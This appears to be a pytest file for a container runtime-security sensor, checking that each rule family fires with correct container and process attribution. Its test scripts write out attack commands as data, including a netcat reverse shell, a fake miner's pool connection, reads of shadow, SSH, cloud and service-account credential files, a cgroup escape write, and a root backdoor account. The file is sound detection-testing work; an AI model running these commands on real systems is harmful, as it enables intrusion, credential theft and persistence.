@@ -1,0 +1,299 @@
+"""Every rule family of Stockade's pack, performed for real: inside a runc container (busybox bundle),
+inside a podman container (an image made with `podman import`) and on the host, with the native
+sensor running (eBPF where the kernel allows it, the fallback sensors otherwise).
+
+Each behaviour must raise its rule's alert with the right attribution: in a container, that
+container's id and image and the process's real ancestry (the script's shell below the runtime); on
+the host, container.id=host. On the host the pack is extended to host processes
+(rules/extras/hosts.yaml, `engine.pack_scope: hosts_and_containers`), and the behaviour runs as host
+processes chrooted into a copy of the busybox tree in private namespaces, so nothing on the host
+changes (HostSandbox in conftest.py).
+
+Commands are named by absolute path (/bin/id, not id): busybox's shell runs its own applets without
+an exec otherwise, which no sensor can see as a process. Every script ends with `exit 0` so its
+last command is a child of the shell (busybox's shell would exec a sole last command in place).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+
+pytestmark = [pytest.mark.root, pytest.mark.containers]
+
+IMAGE = "localhost/stockade-test-busybox"
+#: what the network families do first: an address of their own network namespace that is not
+#: loopback (TEST-NET-1), and a listener on it, so connections succeed without leaving the namespace
+NET_SETUP = "/bin/ip link set lo up; /bin/ip addr add 192.0.2.10/32 dev lo; "
+
+
+@dataclass(frozen=True)
+class Family:
+    rule: str
+    script: str
+    #: the acting process's name, and whether it is the script's shell itself (else its child)
+    proc: str
+    by_shell: bool = False
+    #: needs a non-loopback address in its own network namespace (NET_ADMIN in the container)
+    net: bool = False
+    #: the behaviour means something on the host too (drift needs a container's writable layer)
+    on_host: bool = True
+    #: /dev/shm without noexec (runtimes mount it noexec; a memory-backed emptyDir there is not)
+    shm_exec: bool = False
+
+
+def _listen(port: int) -> str:
+    # a one-shot listener that answers (as an HTTP server would) and exits, in the background
+    return (
+        f"(printf 'HTTP/1.0 200 OK\\r\\n\\r\\nok' | /bin/nc -l -p {port} >/dev/null 2>&1 &); /bin/sleep 0.3; "
+    )
+
+
+FAMILIES: dict[str, Family] = {
+    # -- credential access
+    "password database read": Family(
+        "Password Database Read in Container",
+        "echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow >/dev/null; exit 0",
+        "cat",
+    ),
+    "ssh private key read": Family(
+        "SSH Private Key Read in Container",
+        "mkdir -p /root/.ssh; echo key > /root/.ssh/id_ed25519; /bin/cat /root/.ssh/id_ed25519 >/dev/null; exit 0",
+        "cat",
+    ),
+    "cloud credentials read": Family(
+        "Cloud Credentials Read in Container",
+        "mkdir -p /root/.aws; echo '[default]' > /root/.aws/credentials;"
+        " /bin/cat /root/.aws/credentials >/dev/null; exit 0",
+        "cat",
+    ),
+    "service account token read": Family(
+        "Service Account Token Read by Tool in Container",
+        "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo jwt > $d/token;"
+        " /bin/cat $d/token >/dev/null; exit 0",
+        "cat",
+    ),
+    # -- writes below binary directories and /etc
+    "write below a binary directory": Family(
+        "Write Below Binary Directory in Container",
+        "mkdir -p /usr/local/bin; /bin/cp /bin/busybox /usr/local/bin/stk-tool; exit 0",
+        "cp",
+    ),
+    "write below /etc": Family(
+        "Write Below Etc in Container", "echo x > /etc/stockade-test; exit 0", "sh", by_shell=True
+    ),
+    # -- software at runtime and drift
+    "package manager": Family(
+        "Package Manager Run in Container", "/bin/dpkg -i /tmp/stk-none.deb 2>/dev/null; exit 0", "dpkg"
+    ),
+    "drift": Family(
+        "Binary Not in Image Executed in Container",
+        "/bin/cp /bin/busybox /tmp/bb && /tmp/bb true; exit 0",
+        "bb",
+        on_host=False,
+    ),
+    # -- crypto mining
+    "crypto miner": Family(
+        "Crypto Miner Run in Container",
+        "/bin/ln -sf /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://192.0.2.10:3333 2>/dev/null; exit 0",
+        "xmrig",
+    ),
+    "stratum connection": Family(
+        "Mining Pool Connection from Container",
+        NET_SETUP + _listen(3333) + "/bin/nc 192.0.2.10 3333 </dev/null >/dev/null 2>&1; exit 0",
+        "nc",
+        net=True,
+    ),
+    # -- reverse shells and scanners
+    "reverse shell": Family(
+        "Reverse Shell Command in Container",
+        "/bin/nc -w 1 192.0.2.10 4444 -e /bin/sh 2>/dev/null; exit 0",
+        "nc",
+    ),
+    "network scanner": Family(
+        "Network Scanner Run in Container",
+        "/bin/ln -sf /bin/busybox /tmp/nmap; /tmp/nmap -sS 192.0.2.0/24 2>/dev/null; exit 0",
+        "nmap",
+    ),
+    "shell, download, connect": Family(
+        "Shell, Download, Connect in Container",
+        NET_SETUP + _listen(8080) + "/bin/wget -q -O /dev/null http://192.0.2.10:8080/ 2>/dev/null; exit 0",
+        "wget",
+        net=True,
+    ),
+    # -- escapes
+    "cgroup release_agent": Family(
+        "Cgroup Release Agent Write in Container",
+        "mkdir -p /tmp/cg; echo /tmp/payload > /tmp/cg/release_agent; exit 0",
+        "sh",
+        by_shell=True,
+    ),
+    "/proc/1/root": Family(
+        "Host Root Access via Proc in Container",
+        "/bin/cat /proc/1/root/etc/hostname >/dev/null 2>&1; exit 0",
+        "cat",
+    ),
+    "runtime socket": Family(
+        "Container Runtime Socket Access in Container",
+        "/bin/ls -l /var/run/docker.sock 2>/dev/null; exit 0",
+        "ls",
+    ),
+    "nsenter": Family(
+        "Namespace Tool Run in Container", "/bin/nsenter --help 2>/dev/null; exit 0", "nsenter"
+    ),
+    "mount": Family(
+        "Mount Attempt in Container", "/bin/mount -t tmpfs none /mnt 2>/dev/null; exit 0", "mount"
+    ),
+    "kernel module": Family(
+        "Kernel Module Loaded from Container",
+        ": > /tmp/stk.ko; /bin/insmod /tmp/stk.ko 2>/dev/null; exit 0",
+        "insmod",
+    ),
+    # -- defense evasion
+    "log tampering": Family(
+        "Log File Tampering in Container",
+        "mkdir -p /var/log; echo entry >> /var/log/app.log; /bin/rm -f /var/log/app.log; exit 0",
+        "rm",
+    ),
+    "history cleared": Family(
+        "Shell History Cleared in Container",
+        "echo ls >> /root/.ash_history; /bin/ln -sf /dev/null /root/.ash_history; exit 0",
+        "ln",
+    ),
+    "ptrace": Family("Ptrace Attach in Container", "/bin/stk-attack ptrace; exit 0", "stk-attack"),
+    "fileless (memfd)": Family(
+        "Fileless Execution in Container",
+        "/bin/stk-attack memfd-exec /bin/busybox true; exit 0",
+        # the kernel names a program run from a file descriptor after the descriptor
+        "",
+    ),
+    "execution from /dev/shm": Family(
+        "Execution from Shared Memory in Container",
+        "/bin/cp /bin/busybox /dev/shm/stk && /dev/shm/stk true; exit 0",
+        "stk",
+        shm_exec=True,
+    ),
+    # -- privilege escalation
+    "setuid bit": Family(
+        "Setuid Bit Set in Container", "touch /tmp/s; /bin/chmod u+s /tmp/s; exit 0", "chmod"
+    ),
+    "file capabilities": Family(
+        "File Capabilities Set in Container",
+        "/bin/ln -sf /bin/busybox /tmp/setcap; /tmp/setcap cap_setuid+ep /tmp/s 2>/dev/null; exit 0",
+        "setcap",
+    ),
+    # -- persistence and accounts
+    "cron": Family(
+        "Cron Job Modified in Container",
+        "mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/stk; exit 0",
+        "sh",
+        by_shell=True,
+    ),
+    "systemd unit": Family(
+        "Systemd Unit Modified in Container",
+        "mkdir -p /etc/systemd/system; echo '[Unit]' > /etc/systemd/system/stk.service; exit 0",
+        "sh",
+        by_shell=True,
+    ),
+    "new user": Family(
+        "User Account Created in Container",
+        "/bin/ln -sf /bin/busybox /tmp/useradd; /tmp/useradd -m stk 2>/dev/null; exit 0",
+        "useradd",
+    ),
+    "account database": Family(
+        "Account Database Modified in Container",
+        "echo 'stk:x:0:0::/root:/bin/sh' >> /etc/passwd; exit 0",
+        "sh",
+        by_shell=True,
+    ),
+    "authorized keys": Family(
+        "SSH Authorized Keys Modified in Container",
+        "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA stk' >> /root/.ssh/authorized_keys; exit 0",
+        "sh",
+        by_shell=True,
+    ),
+    # -- discovery
+    "discovery burst": Family(
+        "Discovery Burst in Container", "/bin/id; /bin/uname -a; /bin/ip addr; exit 0", "ip"
+    ),
+}
+
+
+def _check_process(fam: Family, f: dict[str, Any], shell_parent: tuple[str, ...]) -> None:
+    """The acting process and its ancestry: the script's shell below `shell_parent`."""
+    if fam.proc:
+        assert f["proc.name"] == fam.proc, f
+    if fam.by_shell:
+        assert str(f["proc.pname"]).startswith(shell_parent), f
+    else:
+        assert f["proc.pname"] == "sh", f
+        assert str(f["proc.aname[2]"]).startswith(shell_parent), f
+
+
+def _found(node: Any, fam: Family, where: str, mark: int, again: Any) -> dict[str, Any]:
+    """The family's alert for its acting process (the shell's command line names the behaviour
+    too, so some rules also fire on the shell: right, but not the alert under test)."""
+
+    def match(a: Any) -> bool:
+        f = a.output_fields
+        if a.rule != fam.rule or f.get("container.id") != where:
+            return False
+        return f.get("proc.name") == fam.proc if fam.proc else f.get("proc.name") != "sh"
+
+    a = node.wait_for(match, since=mark, again=again)
+    fields: dict[str, Any] = a.output_fields
+    return fields
+
+
+#: what starts an exec'd process in a container: runc (its stages are named runc:[N:...] by the
+#: kernel) for `runc exec` and for `podman exec` (conmon drives runc)
+RUNTIME_PARENTS = ("runc", "conmon", "exe")
+
+
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+def test_in_a_runc_container(node: Any, runc_container: Any, family: str) -> None:
+    fam = FAMILIES[family]
+    c = runc_container(caps=["CAP_NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
+    mark = node.mark()
+
+    def act() -> None:
+        c.exec(["/bin/sh", "-c", fam.script])
+
+    act()
+    f = _found(node, fam, c.id[:12], mark, act)
+    _check_process(fam, f, RUNTIME_PARENTS)
+    # runc has no image: the bundle's root filesystem is the container's
+    assert f.get("container.image.repository") in (None, "")
+
+
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+def test_in_a_podman_container(node: Any, podman_container: Any, family: str) -> None:
+    fam = FAMILIES[family]
+    c = podman_container(caps=["NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
+    mark = node.mark()
+
+    def act() -> None:
+        c.exec(["/bin/sh", "-c", fam.script])
+
+    act()
+    f = _found(node, fam, c.id[:12], mark, act)
+    _check_process(fam, f, RUNTIME_PARENTS)
+    assert f.get("container.image.repository") == IMAGE, node.diagnosis()
+    assert f.get("container.image.tag") == "latest"
+
+
+@pytest.mark.parametrize("family", sorted(k for k, f in FAMILIES.items() if f.on_host))
+def test_on_the_host(node: Any, host_sandbox: Any, family: str) -> None:
+    fam = FAMILIES[family]
+    mark = node.mark()
+
+    def act() -> None:
+        host_sandbox.run(fam.script, net=fam.net)
+
+    act()
+    f = _found(node, fam, "host", mark, act)
+    # the sandbox's shell is started by unshare (which forks, chroots, mounts /proc and execs it)
+    _check_process(fam, f, ("unshare",))
+    assert f.get("container.image.repository") in (None, "")
